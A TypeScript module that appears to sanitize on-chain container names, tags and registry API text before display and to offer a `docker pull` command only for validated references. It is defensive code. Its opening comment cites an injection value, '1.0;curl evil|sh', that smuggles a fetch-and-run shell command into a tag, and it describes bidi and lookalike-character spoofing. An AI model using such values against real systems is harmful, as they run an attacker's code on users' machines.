// Showing what strangers wrote on chain. The page never builds HTML from it (dom.ts sets text),
// but text alone can still deceive: a bidi override ("\u202Eemca" renders as "acme"), a
// zero-width space or a Cyrillic "а" makes a stranger's space look like a known one, and a tag
// such as "1.0;curl evil|sh" or one holding a line break turns a copyable `docker pull` line into
// a command the shell runs. So names, tags, digests and CIDs — printable ASCII whenever they are
// valid — show every other character as an escape (\u0430), free text (descriptions, labels) has
// its controls and invisible or reordering characters escaped, and a pull command is offered only
// for a reference made of valid names at a registry address that is host[:port].
import { INVISIBLE_OR_REORDERING, NOT_PRINTABLE_ASCII } from '../chain/untrusted-characters';
import { checkDigest, checkImageName, checkRepoName, checkTag, isRegistryAddress } from '../chain/validate';

function escapeChar(char: string): string {
  const code = char.codePointAt(0)!;
  return code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`;
}

/** A name, tag, digest or CID as the page shows it: anything outside printable ASCII (and spaces) escaped. */
export const nameText = (value: string): string => value.replace(NOT_PRINTABLE_ASCII, escapeChar);

/** A description or label: any script stays readable; controls and invisible or reordering characters are escaped. */
export const freeText = (value: string): string => value.replace(INVISIBLE_OR_REORDERING, escapeChar);

/**
 * A count or a block number from the index, shown only when it is one (a whole number, 0 or more):
 * a lying index could put text there (a made-up "owner … (verified on chain)" with a bidi override)
 * beside what the page checked itself. Anything else is shown as "?".
 */
export function countText(value: unknown): string {
  return typeof value === 'number' && Number.isSafeInteger(value) && value >= 0 ? String(value) : '?';
}

/** The most characters of the registry's API's own words (an error message) the page shows; its real messages are shorter. */
export const API_TEXT_LIMIT = 500;

/**
 * Words from the registry's API (its error messages, a failed transaction's reason), shown like
 * free text written by strangers: what the API says may come from anywhere (a proxy, an altered
 * answer, text it quotes), and a long one would bury the page. Cut to API_TEXT_LIMIT characters
 * (never inside a surrogate pair), then escaped.
 */
export function apiText(value: unknown): string {
  const text = typeof value === 'string' ? value : '';
  const kept = Array.from(text.slice(0, API_TEXT_LIMIT * 2)).slice(0, API_TEXT_LIMIT).join('');
  return freeText(kept.length < text.length ? `${kept}…` : kept);
}

function passes(check: (value: unknown) => string, value: string | null | undefined): boolean {
  if (value === null || value === undefined) return false;
  try {
    check(value);
    return true;
  } catch {
    return false;
  }
}

export const isSpaceName = (value: string | null | undefined): boolean => passes(checkRepoName, value);

/**
 * `docker pull <registry>/<space>/<image>:<tag>` (or `@<digest>`), only when every part is a valid
 * name: otherwise undefined, and the page offers no command to copy into a shell.
 */
export function pullCommand(registry: string, space: string | null, image: string | null, ref: { tag: string } | { digest: string | null }): string | undefined {
  if (!isRegistryAddress(registry) || !passes(checkRepoName, space) || !passes(checkImageName, image)) return undefined;
  if ('tag' in ref) return passes(checkTag, ref.tag) ? `docker pull ${registry}/${space}/${image}:${ref.tag}` : undefined;
  return passes(checkDigest, ref.digest) ? `docker pull ${registry}/${space}/${image}@${ref.digest}` : undefined;
}
